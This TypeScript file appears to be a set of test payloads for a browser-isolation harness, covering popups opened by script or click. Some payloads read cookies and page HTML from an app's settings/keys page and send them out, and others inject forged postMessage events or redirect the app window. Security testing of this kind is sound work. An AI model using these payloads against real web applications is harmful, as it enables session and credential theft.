// New pages: opened by a script without a press, or by a press, and then used to reach back.
import { family, html, markup, script } from "./payload.ts";

const pressed = { pressed: true, allows: ["page"] } as const;
const press = (handler: (at: { hit: string; app: string; strike: string }) => string) =>
  markup(
    ({ hit, app, strike }) =>
      `<button data-click onclick="${handler({ hit: hit(), app, strike }).replaceAll("&", "&amp;").replaceAll('"', "&quot;")}">Open</button>`,
    pressed,
  );

export const popups = family("popups", {
  "open-by-itself": script(({ hit }) => `window.open("${hit()}");`, {
    unproven: "Chromium lets no page open by itself",
  }),
  "open-by-itself-noopener": script(({ hit }) => `window.open("${hit()}", "_blank", "noopener");`, {
    unproven: "Chromium lets no page open by itself",
  }),
  "open-by-synthetic-press": script(
    ({ hit }) =>
      `const a = document.createElement("a"); a.href = "${hit()}"; a.target = "_blank"; document.body.append(a); a.click();`,
    { unproven: "Chromium lets no page open by itself" },
  ),
  "pressed-link": markup(({ hit }) => `<a data-click target="_blank" href="${hit()}">Read on</a>`, pressed),
  "pressed-link-with-opener": markup(
    ({ hit }) => `<a data-click target="_blank" rel="opener" href="${hit()}">Read on</a>`,
    pressed,
  ),
  "pressed-named": markup(({ hit }) => `<a data-click target="elsewhere" href="${hit()}">Read on</a>`, pressed),
  "pressed-script": press(({ hit }) => `window.open('${hit}')`),
  "pressed-noopener": press(({ hit }) => `window.open('${hit}','_blank','noopener,noreferrer')`),
  "pressed-twice": press(({ hit }) => `window.open('${hit}');window.open('${hit}','_blank')`),
  "script-address": html(
    ({ strike }) =>
      `<button data-click title="${strike}" onclick="window.open('javascript:'+this.title)">Open</button>`,
    pressed,
  ),
  "written-page": html(
    ({ strike }) =>
      `<button data-click title="${strike}" onclick="var w=window.open('');w.document.write('<script>'+this.title+'</scr'+'ipt>')">Open</button>`,
    pressed,
  ),
  "blob-page": html(
    ({ strike }) =>
      `<button data-click title="${strike}" onclick="window.open(window.URL.createObjectURL(new Blob(['<script>'+this.title+'</scr'+'ipt>'],{type:'text/html'})))">Open</button>`,
    pressed,
  ),
  "app-page-read": html(
    ({ app, tell }) =>
      `<button data-click onclick="w=window.open('${app}/settings/keys');setTimeout(function(){try{${tell("read", "w.document.cookie+w.document.body.innerHTML")}}catch(e){console.info(e.message)}},700)">Open</button>`,
    pressed,
  ),
  "app-page-spoken-to": html(
    ({ app, hit }) =>
      `<button data-click onclick="w=window.open('${app}/');setInterval(function(){w.postMessage({type:'plinth:expired',html:'<img src=${hit()}>'},'*')},50)">Open</button>`,
    pressed,
  ),
  "app-page-moved": html(
    ({ app, hit }) =>
      `<button data-click onclick="w=window.open('${app}/','app');setTimeout(function(){w.location='${hit()}'},500)">Open</button>`,
    pressed,
  ),
  "data-page": html(
    ({ strike }) =>
      `<a data-click target="_blank" href="data:text/html,${encodeURIComponent(`<script>${strike}</script>`)}">Open</a>`,
    {
      ...pressed,
      unproven: "Chromium opens no data address as a page",
    },
  ),
});
